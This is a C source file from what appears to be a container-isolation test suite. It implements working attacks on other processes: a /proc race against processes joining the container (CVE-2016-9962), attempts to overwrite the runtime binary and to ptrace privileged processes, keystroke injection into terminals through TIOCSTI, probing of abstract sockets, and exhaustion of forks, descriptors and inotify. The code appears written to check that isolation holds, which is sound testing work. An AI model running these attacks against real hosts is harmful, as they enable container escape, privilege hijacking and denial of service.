/* Attacks on other processes: whoever joins the container, the kernel's keys, the terminal, sockets, shared limits. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* ---- watch: catch a process that joins before it has executed its program (CVE-2016-9962) ---- */

static unsigned long long own_capabilities;
static int scans, strangers;

static unsigned long long capabilities(const char *pid)
{
	char path[64], line[256];
	unsigned long long caps = 0;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%s/status", pid);
	file = fopen(path, "r");
	while (file && fgets(line, sizeof(line), file))
		if (sscanf(line, "CapPrm: %llx", &caps) == 1)
			break;
	if (file)
		fclose(file);
	return caps;
}

static void try_path(const char *base, const char *relative)
{
	char path[4096];
	int fd;

	snprintf(path, sizeof(path), "%s/%s", base, relative);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	printf("CAUGHT %s\n", base);
	close(fd);
}

static void try_descriptors(const char *pid, const char *relative)
{
	char path[512];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		if (*entry->d_name == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		try_path(path, relative);
	}
	if (dir)
		closedir(dir);
}

/* A process of the runtime, still: its file is not one of the image's. */
static int is_runtime(const char *pid, char link[512])
{
	char path[64];
	ssize_t size;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	size = readlink(path, link, 511);
	if (size <= 0)
		return 0;
	link[size] = '\0';
	return strstr(link, "memfd:") != NULL || strstr(link, "shim") != NULL || strstr(link, "python") != NULL;
}

static void try_overwrite(const char *pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int tries = 0; tries < 20; tries++) {
		int write_fd = open(path, O_WRONLY | O_CLOEXEC);

		if (write_fd >= 0) {
			puts("OPENED RUNTIME FOR WRITING");
			close(write_fd);
			break;
		}
		if (errno != ETXTBSY)
			break;
	}
	close(fd);
}

static void try_trace(const char *name)
{
	unsigned long long caps = capabilities(name);
	pid_t pid = atoi(name);

	if (!(caps & ~own_capabilities))
		return;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	caps = capabilities(name);
	if (caps & ~own_capabilities)
		printf("SEIZED a process with capabilities %llx\n", caps);
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void look_at(const char *pid, const char *mode, const char *relative)
{
	char base[64], link[512];

	if (strchr(mode, 'f')) {
		try_descriptors(pid, relative);
		snprintf(base, sizeof(base), "/proc/%s/cwd", pid);
		try_path(base, relative);
		snprintf(base, sizeof(base), "/proc/%s/root", pid);
		try_path(base, relative);
	}
	if (!is_runtime(pid, link))
		return;
	strangers++;
	if (strchr(mode, 'x'))
		try_overwrite(pid);
	if (strchr(mode, 't'))
		try_trace(pid);
}

/* watch MODE REL: until SIGTERM look at every other process: f descriptors, directory and root lead to REL on the
 * host; x its file can be written; t it can be traced while it has more privilege than the container. */
int cmd_watch(int argc, char **argv)
{
	char self[16];
	struct dirent *entry;
	DIR *proc;

	if (argc != 2)
		return 64;
	stop_on_term();
	own_capabilities = capabilities("self");
	snprintf(self, sizeof(self), "%d", getpid());
	puts("watching");
	fflush(stdout);
	for (; !stopped; scans++) {
		proc = opendir("/proc");
		while (proc && (entry = readdir(proc)))
			if (*entry->d_name >= '1' && *entry->d_name <= '9' && strcmp(entry->d_name, self) != 0)
				look_at(entry->d_name, argv[0], argv[1]);
		if (proc)
			closedir(proc);
	}
	printf("scans %d runtime-processes-seen %d\n", scans, strangers);
	return 0;
}

/* ---- keys ---- */

/* keys add|find NAME: in the session keyring; keys session: its serial number. */
int cmd_keys(int argc, char **argv)
{
	long ret = -1;

	if (argc < 1)
		return 64;
	if (strcmp(argv[0], "session") == 0)
		ret = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	else if (argc > 1 && strcmp(argv[0], "add") == 0)
		ret = syscall(SYS_add_key, "user", argv[1], "x", 1, KEY_SPEC_SESSION_KEYRING);
	else if (argc > 1)
		ret = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[1], 0);
	if (ret < 0)
		printf("%s\n", strerror(errno));
	else
		printf("KEY %ld\n", ret);
	fflush(stdout);
	if (argc > 1 && strcmp(argv[0], "add") == 0)
		pause(); /* keeps its session keyring alive */
	return 0;
}

/* ---- terminal ---- */

static void inject(int fd, const char *text)
{
	char subcode = 2; /* TIOCLINUX: select and paste */

	for (; *text; text++)
		if (ioctl(fd, TIOCSTI, text) < 0)
			break;
	if (*text)
		printf("fd %d: %s\n", fd, strerror(errno));
	ioctl(fd, TIOCLINUX, &subcode);
}

/* inject TEXT: type TEXT into every terminal in reach. */
int cmd_inject(int argc, char **argv)
{
	static const char *const names[] = { "/dev/tty", "/dev/console", "/dev/pts/0" };

	char line[256];

	if (argc != 1)
		return 64;
	snprintf(line, sizeof(line), "%s\n", argv[0]);
	for (int fd = 0; fd < 3; fd++)
		inject(fd, line);
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd = open(names[i], O_RDWR | O_NONBLOCK);

		if (fd >= 0)
			inject(fd, line);
	}
	puts("injected");
	return 0;
}

/* ---- sockets ---- */

/* connect: to every abstract socket that /proc/net/unix lists. */
int cmd_connect(int argc, char **argv)
{
	FILE *file = fopen("/proc/net/unix", "r");
	char line[512], name[256];

	(void)argc;
	(void)argv;
	while (file && fgets(line, sizeof(line), file)) {
		struct sockaddr_un address = { .sun_family = AF_UNIX };
		int type, fd, ret;

		if (sscanf(line, "%*s %*s %*s %*s %x %*s %*s @%107s", (unsigned int *)&type, name) != 2)
			continue;
		memcpy(address.sun_path + 1, name, strlen(name));
		fd = socket(AF_UNIX, type, 0);
		ret = connect(fd, (struct sockaddr *)&address,
			      (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)));
		printf("%s %s\n", ret == 0 ? "CONNECTED" : strerror(errno), name);
		close(fd);
	}
	puts("tried");
	return 0;
}

/* ---- limits that containers share ---- */

static int hold(const char *what, int count)
{
	printf("%s %d\n", what, count);
	fflush(stdout);
	while (!stopped)
		pause();
	return 0;
}

/* forks: as many processes as there may be, all of which stay. */
int cmd_forks(int argc, char **argv)
{
	int count = 0;

	(void)argc;
	(void)argv;
	stop_on_term();
	for (; count < 100000; count++) {
		pid_t pid = fork();

		if (pid < 0)
			break;
		while (pid == 0)
			pause();
	}
	return hold("forked", count);
}

/* descriptors: as many as there may be, 100,000 at most. */
int cmd_descriptors(int argc, char **argv)
{
	int count = 0;

	(void)argc;
	(void)argv;
	stop_on_term();
	while (count < 100000 && dup(0) >= 0)
		count++;
	return hold("opened", count);
}

/* inotify: all instances of this user id, for the whole machine. */
int cmd_inotify(int argc, char **argv)
{
	int count = 0;

	(void)argc;
	(void)argv;
	stop_on_term();
	while (count < 100000 && inotify_init1(IN_CLOEXEC) >= 0)
		count++;
	return hold("instances", count);
}
